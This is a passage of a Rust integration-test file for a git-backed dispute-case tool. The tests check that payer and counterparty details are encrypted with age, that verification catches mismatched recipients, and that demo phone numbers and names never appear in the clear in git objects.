        "the commit is named: {found:#?}"
    );
    assert!(
        found
            .iter()
            .any(|f| f["case"] == id && f["commit"] == "HEAD"),
        "and the state at HEAD: {found:#?}"
    );
}

#[test]
fn verify_finds_an_assignment_that_did_not_open_the_case() {
    let env = Env::new();
    let id = individual_case(&env);
    let before: toml::Table = toml::from_str(&env.read(&case_path(&id))).unwrap();
    env.act(
        "zhangsan",
        &[
            "assign",
            &id,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    // the same commit with the payer data left sealed as before the assignment
    env.edit_case(&id, |t| {
        t["payer"]
            .as_table_mut()
            .unwrap()
            .insert("sealed".into(), before["payer"]["sealed"].clone());
    });
    amend(&env);
    let found = findings_saying(&env, &["没有在同一提交中向其加密"]);
    assert!(
        found
            .iter()
            .any(|f| f["case"] == id && f["rule"].as_str().unwrap().contains("县人社局")),
        "{found:#?}"
    );
}

#[test]
fn verify_finds_recipients_listed_but_not_encrypted_to() {
    let env = Env::new();
    let id = individual_case(&env);
    let book: toml::Value = toml::from_str(&env.read("casebook.toml")).unwrap();
    let justice_key = book["departments"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"].as_str() == Some("justice"))
        .unwrap()["keys"][0]["recipient"]
        .clone();
    // justice listed as a recipient (it is not one), without re-encrypting
    env.edit_case(&id, |t| {
        let recipients = t["payer"]["sealed"]["recipients"].as_array_mut().unwrap();
        let mut r = toml::Table::new();
        r.insert("dept".into(), "justice".into());
        r.insert("key".into(), justice_key.clone());
        recipients.push(toml::Value::Table(r));
    });
    amend(&env);
    let found = findings_saying(&env, &["数目不符", "不是本案的接收部门"]);
    assert!(found.iter().any(|f| f["case"] == id), "{found:#?}");
}

/// After `make demo`-like use (the demo script itself, run with this build), no git object
/// of the casebook — no version of any file, no commit message — and no other file in its
/// directory holds a payer's phone, ID number, contact or individual name in the clear.
#[test]
fn no_git_object_of_a_demo_casebook_holds_payer_data_in_the_clear() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let tmp = tempfile::tempdir().unwrap();
    let out = std::process::Command::new("bash")
        .arg(root.join("scripts/demo.sh"))
        .arg(env!("CARGO_BIN_EXE_dispute"))
        .arg(tmp.path().join("out"))
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("HOME", tmp.path().join("home"))
        .env("TMPDIR", tmp.path())
        .output()
        .expect("the demo runs");
    let printed = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "demo failed:\n{printed}");
    assert!(
        printed.contains("发现 0 处问题"),
        "the demo's history verifies"
    );
    let demo = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("dispute-demo.")
        })
        .expect("the demo's directory");
    let casebook = demo.join("casebook");

    // every payer detail the demo typed in: phones, ID numbers, contacts, individuals
    let secrets = [
        "13935901234",
        "11010519491231002X",
        "13812340000",
        "91350100M000100Y43",
        "03593025566",
        "13700001111",
        "13633334444",
        "13512345678",
        "13811112222",
        "13700000101",
        "13700000102",
        "13700000103",
        "王小明",
        "陈立",
        "刘海",
        "赵建华",
        "孙秀英",
        "周志强",
        "张秀兰",
        // the employee-employer dispute: the employee's phone and name, the employer's phone
        "13935906677",
        "王建军",
        "03593028899",
        "13834561234",
        "13734567890",
    ];
    let script = std::fs::read_to_string(root.join("scripts/demo.sh")).unwrap();
    for s in secrets {
        assert!(script.contains(s), "the demo types {s}");
    }

    let objects = std::process::Command::new("git")
        .args(["cat-file", "--batch-all-objects", "--batch"])
        .current_dir(&casebook)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(objects.status.success());
    let objects = objects.stdout;
    assert!(
        objects.len() > 100_000,
        "{} bytes of objects",
        objects.len()
    );
    let contains =
        |hay: &[u8], needle: &str| hay.windows(needle.len()).any(|w| w == needle.as_bytes());
    // the check can fail: the sealed data and the masks are there
    assert!(contains(&objects, "-----BEGIN AGE ENCRYPTED FILE-----"));
    assert!(contains(&objects, "139****1234"));
    for s in secrets {
        assert!(!contains(&objects, s), "a git object holds {s}");
    }
    // nor any other file of the casebook (index, reflog, caches); objects are compressed
    let mut stack = vec![casebook.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let p = entry.unwrap().path();
            if p.is_dir() {
                if !p.ends_with("objects") {
                    stack.push(p);
                }
            } else {
                let bytes = std::fs::read(&p).unwrap();
                for s in secrets {
                    assert!(!contains(&bytes, s), "{} holds {s}", p.display());
                }
            }
        }
    }
}

/// A department's cases carried into a new casebook without the old history: exported
/// decrypted as an import file, imported there, and sealed again for the new casebook.
#[test]
fn cases_move_to_a_new_casebook_without_their_history() {
    let old = Env::new();
    let general = individual_case(&old);
    old.act(
        "zhangsan",
        &[
            "assign",
            &general,
            "--dept",
            "hrss",
            "--at",
            "2026-11-03T09:00:00+08:00",
        ],
    );
    old.act(
        "lisi",
        &[
            "opinion",
            &general,
            "--text",
            "滞纳金计算无误。",
            "--at",
            "2026-11-04T09:00:00+08:00",
        ],
    );
    old.act(
        "zhangsan",
        &[
            "reply",
            &general,
            "--text",
            "经核查，不予减免。",
            "--at",
            "2026-11-05T09:00:00+08:00",
        ],
    );
    let plain = old.register("zhangsan", "2026-11-06T09:00:00+08:00");
    let major = old.register("zhangsan", "2026-11-06T10:00:00+08:00");
    old.act(
        "zhangsan",
        &[
            "classify",
            &major,
            "--track",
            "major",
            "--category",
            "9",
            "--at",
            "2026-11-06T11:00:00+08:00",
        ],
    );
    old.as_fails("zhangsan", 4, &["export", "--format", "toml"]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("迁移.toml");
    let out = old.run(&[
        "--as",
        "zhangsan",
        "export",
        "--format",
        "toml",
        "--reveal",
        "-o",
        file.to_str().unwrap(),
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains(&major) && stderr.contains("2 件"),
        "{stderr}"
    );

    let new = Env::new();
    let imported = new.as_ok("zhangsan", &["import", file.to_str().unwrap()]);
    let ids: Vec<&str> = imported.lines().collect();
    assert_eq!(ids, [general.as_str(), plain.as_str()]);
    // the same cases, sealed for the new casebook; none of the old history
    let shown = |env: &Env, id: &str| {
        let out = env.as_ok("zhangsan", &["show", id, "--json", "--reveal"]);
        let mut v: serde_json::Value = serde_json::from_str(&out).unwrap();
        v["payer"].as_object_mut().unwrap().remove("sealed");
        v
    };
    assert_eq!(
        shown(&new, &general)["payer"],
        shown(&old, &general)["payer"]
    );
    assert_eq!(shown(&new, &general)["reply"]["text"], "经核查，不予减免。");
    assert_eq!(
        shown(&new, &general)["opinions"][0]["text"],
        "滞纳金计算无误。"
    );
    assert!(!new.read(&case_path(&general)).contains(PHONE));
    assert!(can_read(&new, &general, "lisi"));
    let (code, findings) = new.verify_json(&[]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:#?}");
}

/// `admin encrypt-payers` seals the other party of an employee-employer dispute with the
/// payer (issue 13), and `verify` accepts the upgrade.
#[test]
fn encrypt_payers_seals_the_other_party_too() {
    let (env, base) = legacy_env();
    let id = env.register_with(
        "zhangsan",
        &[
            ("--payer-kind", "employer"),
            ("--counterparty", "王建军"),
            ("--counterparty-phone", "13935906677"),
            ("--at", "2026-11-02T09:00:00+08:00"),
        ],
    );
    assert!(env.read(&case_path(&id)).contains("王建军"), "plain before");
    env.act("admin", &["admin", "encrypt-payers"]);
    let file = env.read(&case_path(&id));
    for secret in ["王建军", "13935906677"] {
        assert!(
            !file.contains(secret),
            "{secret} still in the clear: {file}"
        );
    }
    assert!(file.contains("[counterparty.sealed]"), "{file}");
    let sheet = env.as_ok("zhangsan", &["show", &id, "--reveal"]);
    assert!(
        sheet.contains("王建军") && sheet.contains("13935906677"),
        "{sheet}"
    );
    let (code, findings) = env.verify_json(&["--since", &base]);
    assert_eq!((code, findings.len()), (0, 0), "{findings:#?}");
}
